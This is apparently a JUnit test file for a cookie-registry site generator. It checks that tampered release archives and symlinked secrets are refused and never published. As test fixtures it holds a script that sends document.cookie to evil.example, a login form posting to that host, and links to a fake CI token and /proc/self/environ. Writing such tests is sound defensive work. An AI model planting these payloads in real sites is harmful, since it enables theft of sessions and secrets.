package dev.cookiereg.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cookiereg.cli.Cli;
import dev.cookiereg.cli.ExitCodes;
import dev.cookiereg.testing.ScratchProject;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Findings 2 and 3 of the hardening review: the release archive is published exactly as released. A
 * link (to a CI secret) is never followed, and an archived file that changed, appeared or
 * disappeared fails {@code build --check}, {@code build}, {@code check} and {@code release} with a
 * located error, never published.
 */
class ArchiveTamperingTest {
  static final String SECRET = "CI_TOKEN=ghp_secret_value_never_published";
  @TempDir Path dir;
  ScratchProject project;
  Path secret;

  @BeforeEach
  void project() throws Exception {
    project = ScratchProject.released(dir.resolve("project"));
    secret = Files.writeString(dir.resolve("secret.env"), SECRET);
  }

  /** One way to tamper with the archive, and the file the error must name. */
  record Tampering(String name, Consumer<ScratchProject> apply, String file, String problem) {
    @Override
    public String toString() {
      return name;
    }
  }

  static Stream<Arguments> tamperings() {
    return Stream.of(
        Arguments.of(
            new Tampering(
                "a script appended to an archived page",
                p ->
                    append(
                        p,
                        "versions/1.0.0/index.html",
                        "<script>fetch('https://evil.example/?c='+document.cookie)</script>"),
                "versions/1.0.0/index.html",
                "has changed since it was released")),
        Arguments.of(
            new Tampering(
                "an edited archived manifest",
                p -> replace(p, "versions/1.0.0/manifest.json", "\"P13M\"", "\"P1M\""),
                "versions/1.0.0/manifest.json",
                "has changed since it was released")),
        Arguments.of(
            new Tampering(
                "an extra login.html in a release",
                p -> write(p, "versions/1.0.0/login.html", "<form action=https://evil.example>"),
                "versions/1.0.0/login.html",
                "is not a file a release writes")),
        Arguments.of(
            new Tampering(
                "a folder versions/notes/",
                p -> write(p, "versions/notes/readme.txt", "hi"),
                "versions/notes",
                "is not a folder a release writes")),
        Arguments.of(
            new Tampering(
                "an unrecorded asset",
                p -> write(p, "versions/1.0.0/assets/x.js", "alert(1)"),
                "versions/1.0.0/assets/x.js",
                "was not written by a release")),
        Arguments.of(
            new Tampering(
                "a deleted archived page",
                p -> delete(p, "versions/1.0.0/history.html"),
                "versions/1.0.0/history.html",
                "is missing")),
        Arguments.of(
            new Tampering(
                "an archived registry edited with its record",
                p -> {
                  replace(p, "versions/1.0.0/cookies.yaml", "P13M", "P1M");
                  replace(p, "versions/SHA256SUMS", "  1.0.0/cookies.yaml", "x 1.0.0/cookies.yaml");
                },
                "versions/SHA256SUMS:",
                "is not a line")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("tamperings")
  void aTamperedArchiveFailsEveryCommandAndIsNeverPublished(Tampering t) throws Exception {
    t.apply().accept(project);
    Map<String, String> tampered = ScratchProject.contents(project.site());
    String located = project.site().resolve(t.file()).toString();

    Cli check = project.cli("build", "--check");
    assertThat(check.exitCode()).as(check.err()).isEqualTo(ExitCodes.FAILED_CHECK);
    assertThat(check.err())
        .startsWith(located)
        .contains(": error: " + t.problem())
        .doesNotContain("\tat ");

    Cli build = project.cli("build");
    assertThat(build.exitCode()).as(build.err()).isEqualTo(ExitCodes.INTERNAL);
    assertThat(build.err()).startsWith(located).contains(t.problem());

    Cli lint = project.cli("check");
    assertThat(lint.exitCode()).isEqualTo(ExitCodes.INVALID);
    assertThat(lint.err()).startsWith(located);

    project.edit(
        "purpose: Stores your light or dark mode selection", "purpose: Stores your colour theme");
    Cli release = project.cli("release");
    assertThat(release.exitCode()).isEqualTo(ExitCodes.INTERNAL);
    assertThat(release.err()).startsWith(located).contains("nothing was released");
    assertThat(ScratchProject.contents(project.site())).isEqualTo(tampered);
  }

  @Test
  void aLinkInTheArchiveToASecretIsRefusedAndNeverPublished() throws Exception {
    Path archived = project.site().resolve("versions/1.0.0/history.html");
    Files.delete(archived);
    Files.createSymbolicLink(archived, secret);
    Files.createSymbolicLink(
        project.site().resolve("versions/1.0.0/assets/env.txt"), Path.of("/proc/self/environ"));

    Cli check = project.cli("build", "--check");
    Cli build = project.cli("build");

    assertThat(check.exitCode()).isEqualTo(ExitCodes.FAILED_CHECK);
    assertThat(check.err()).contains("is a symbolic link").doesNotContain(SECRET);
    assertThat(build.exitCode()).isEqualTo(ExitCodes.INTERNAL);
    assertThat(build.err()).contains("is a symbolic link");
    assertThat(Files.isSymbolicLink(archived)).isTrue();
    assertThat(published()).doesNotContain(SECRET);
  }

  @Test
  void aLinkUnderTemplateAssetsIsRefusedAndNeverPublished() throws Exception {
    Path templates = Files.createDirectories(project.dir().resolve("templates/assets"));
    Files.copy(Path.of("templates/assets/policy.css"), templates.resolve("policy.css"));
    for (String page : new String[] {"layout.ftlh", "policy.ftlh", "history.ftlh"}) {
      Files.copy(Path.of("templates", page), templates.getParent().resolve(page));
    }
    Files.createSymbolicLink(templates.resolve("config.txt"), secret);

    Cli build = project.cli("build");

    assertThat(build.exitCode()).isEqualTo(ExitCodes.INTERNAL);
    assertThat(build.err())
        .startsWith(templates.resolve("config.txt") + ": error: a symbolic link")
        .doesNotContain(SECRET);
    assertThat(published()).doesNotContain(SECRET);
  }

  @Test
  void aLinkAtTheTopOfTheSiteMakesItStale() throws Exception {
    Path page = project.site().resolve("notice.json");
    Path copy = Files.copy(page, dir.resolve("notice-copy.json"));
    Files.delete(page);
    Files.createSymbolicLink(page, copy); // the same bytes, through a link

    Cli check = project.cli("build", "--check");

    assertThat(check.exitCode()).isEqualTo(ExitCodes.FAILED_CHECK);
    assertThat(check.err()).contains("notice.json (a symbolic link)");
  }

  @Test
  void anArchiveWithItsRecordIsVerifiedBySha256sum() throws Exception {
    Process p =
        new ProcessBuilder("sha256sum", "--strict", "--quiet", "-c", "SHA256SUMS")
            .directory(project.site().resolve("versions").toFile())
            .redirectErrorStream(true)
            .start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(p.waitFor()).as(out).isZero();
  }

  /** Everything in the site, links left unread: what a web server would publish. */
  private String published() throws IOException {
    StringBuilder all = new StringBuilder();
    try (Stream<Path> walk = Files.walk(project.site())) {
      for (Path f :
          walk.filter(Files::isRegularFile).filter(f -> !Files.isSymbolicLink(f)).toList()) {
        all.append(Files.readString(f, StandardCharsets.ISO_8859_1));
      }
    }
    return all.toString();
  }

  private static void append(ScratchProject p, String file, String text) {
    io(() -> Files.writeString(p.site().resolve(file), text, StandardOpenOption.APPEND));
  }

  private static void replace(ScratchProject p, String file, String find, String with) {
    io(
        () -> {
          Path f = p.site().resolve(file);
          String s = Files.readString(f);
          assertThat(s).contains(find);
          return Files.writeString(f, s.replace(find, with));
        });
  }

  private static void write(ScratchProject p, String file, String text) {
    io(
        () ->
            Files.writeString(
                Files.createDirectories(p.site().resolve(file).getParent())
                    .resolve(p.site().resolve(file).getFileName()),
                text));
  }

  private static void delete(ScratchProject p, String file) {
    io(
        () -> {
          Files.delete(p.site().resolve(file));
          return null;
        });
  }

  interface IoAction {
    Object run() throws IOException;
  }

  private static void io(IoAction action) {
    try {
      action.run();
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }
}
